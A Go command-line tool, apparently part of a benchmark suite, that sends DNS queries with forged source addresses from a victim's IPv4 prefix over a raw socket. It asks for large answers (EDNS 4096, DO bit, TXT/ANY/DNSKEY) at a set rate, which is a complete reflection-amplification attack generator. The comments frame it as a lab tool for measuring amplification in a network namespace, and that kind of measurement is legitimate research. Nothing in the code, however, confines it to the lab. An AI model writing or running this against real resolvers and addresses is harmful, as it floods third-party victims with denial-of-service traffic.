// Command dnsspoof sends DNS queries over UDP with spoofed IPv4 source
// addresses, through a raw socket, as a reflection attack does: every
// query claims to come from an address of the victim's prefix, so the
// answers go to the victim. It prints the queries and octets it sent.
// bench/amplification.sh runs it in a network namespace (it needs
// CAP_NET_RAW) to measure what a server sends the victim for what the
// attacker spends.
//
//	dnsspoof -addr 10.91.0.2:53 -victim 10.91.5.0/24 -name big.bench.example -type TXT -rate 5000 -duration 10s
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:53", "the server (IPv4)")
	victim := flag.String("victim", "192.0.2.0/24", "the prefix the sources are taken from")
	name := flag.String("name", "example.org", "the name asked")
	qtype := flag.String("type", "TXT", "the type asked: A, TXT, ANY, DNSKEY or a number")
	do := flag.Bool("do", true, "set the DNSSEC OK bit")
	rate := flag.Int("rate", 5000, "queries a second")
	duration := flag.Duration("duration", 10*time.Second, "how long")
	flag.Parse()
	if err := run(*addr, *victim, *name, *qtype, *do, *rate, *duration); err != nil {
		fmt.Fprintln(os.Stderr, "dnsspoof:", err)
		os.Exit(1)
	}
}

func run(addr, victim, name, qtype string, do bool, rate int, duration time.Duration) error {
	server, err := netip.ParseAddrPort(addr)
	if err != nil || !server.Addr().Is4() {
		return fmt.Errorf("-addr %q: want an IPv4 address and port", addr)
	}
	prefix, err := netip.ParsePrefix(victim)
	if err != nil || !prefix.Addr().Is4() || prefix.Bits() > 30 {
		return fmt.Errorf("-victim %q: want an IPv4 prefix of /30 or wider", victim)
	}
	t, ok := map[string]uint16{"A": 1, "TXT": 16, "ANY": 255, "DNSKEY": 48, "AAAA": 28}[strings.ToUpper(qtype)]
	if !ok {
		var n int
		if _, err := fmt.Sscanf(qtype, "%d", &n); err != nil || n <= 0 || n > 65535 {
			return fmt.Errorf("-type %q: unknown", qtype)
		}
		t = uint16(n)
	}
	q, err := query(name, t, do)
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket (needs CAP_NET_RAW): %w", err)
	}
	defer syscall.Close(fd)
	if err := syscall.SetsockoptInt(fd, syscall.IPPROTO_IP, syscall.IP_HDRINCL, 1); err != nil {
		return err
	}
	dst := &syscall.SockaddrInet4{Addr: server.Addr().As4()}
	hosts := uint32(1) << (32 - prefix.Bits())
	base := binary.BigEndian.Uint32(prefix.Masked().Addr().AsSlice())
	pkt := make([]byte, 28+len(q))
	sent, octets := 0, 0
	interval := time.Second / time.Duration(max(rate, 1))
	start := time.Now()
	for next := start; time.Since(start) < duration; next = next.Add(interval) {
		if d := time.Until(next); d > 0 {
			time.Sleep(d)
		}
		src := base + 1 + rand.Uint32N(hosts-2)
		var s [4]byte
		binary.BigEndian.PutUint32(s[:], src)
		binary.BigEndian.PutUint16(q, uint16(rand.Uint32())) // ID
		packet(pkt, s, server.Addr().As4(), uint16(1024+rand.IntN(60000)), server.Port(), q)
		if err := syscall.Sendto(fd, pkt, 0, dst); err != nil {
			return fmt.Errorf("send: %w", err)
		}
		sent++
		octets += len(pkt)
	}
	fmt.Printf("sent=%d octets=%d in=%s\n", sent, octets, time.Since(start).Round(time.Millisecond))
	return nil
}

// query is a DNS query for name and qtype with an EDNS(0) OPT record
// offering 4096 octets, DO set when do.
func query(name string, qtype uint16, do bool) ([]byte, error) {
	q := []byte{0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 1}
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		if len(label) == 0 || len(label) > 63 {
			return nil, fmt.Errorf("-name %q: an empty or long label", name)
		}
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0)
	q = binary.BigEndian.AppendUint16(q, qtype)
	q = binary.BigEndian.AppendUint16(q, 1) // IN
	flags := uint16(0)
	if do {
		flags = 0x8000
	}
	q = append(q, 0)                                // root owner
	q = binary.BigEndian.AppendUint16(q, 41)        // OPT
	q = binary.BigEndian.AppendUint16(q, 4096)      // payload size
	q = append(q, 0, 0)                             // extended rcode, version
	q = binary.BigEndian.AppendUint16(q, flags)     // DO
	return binary.BigEndian.AppendUint16(q, 0), nil // no options
}

// packet writes an IPv4 header and a UDP header before payload into pkt.
func packet(pkt []byte, src, dst [4]byte, sport, dport uint16, payload []byte) {
	n := 28 + len(payload)
	ip := pkt[:20]
	ip[0], ip[1] = 0x45, 0
	binary.BigEndian.PutUint16(ip[2:], uint16(n))
	binary.BigEndian.PutUint16(ip[4:], uint16(rand.Uint32())) // identification
	binary.BigEndian.PutUint16(ip[6:], 0x4000)                // don't fragment
	ip[8], ip[9] = 64, syscall.IPPROTO_UDP
	binary.BigEndian.PutUint16(ip[10:], 0)
	copy(ip[12:16], src[:])
	copy(ip[16:20], dst[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(ip, 0))
	udp := pkt[20:28]
	binary.BigEndian.PutUint16(udp[0:], sport)
	binary.BigEndian.PutUint16(udp[2:], dport)
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
	binary.BigEndian.PutUint16(udp[6:], 0)
	copy(pkt[28:], payload)
	// the UDP checksum over the pseudo-header, the header and the data
	var pseudo uint32
	pseudo += uint32(binary.BigEndian.Uint16(src[:2])) + uint32(binary.BigEndian.Uint16(src[2:]))
	pseudo += uint32(binary.BigEndian.Uint16(dst[:2])) + uint32(binary.BigEndian.Uint16(dst[2:]))
	pseudo += syscall.IPPROTO_UDP + uint32(8+len(payload))
	sum := checksum(pkt[20:n], pseudo)
	if sum == 0 {
		sum = 0xffff
	}
	binary.BigEndian.PutUint16(udp[6:], sum)
}

// checksum is the Internet checksum of b, starting from sum.
func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
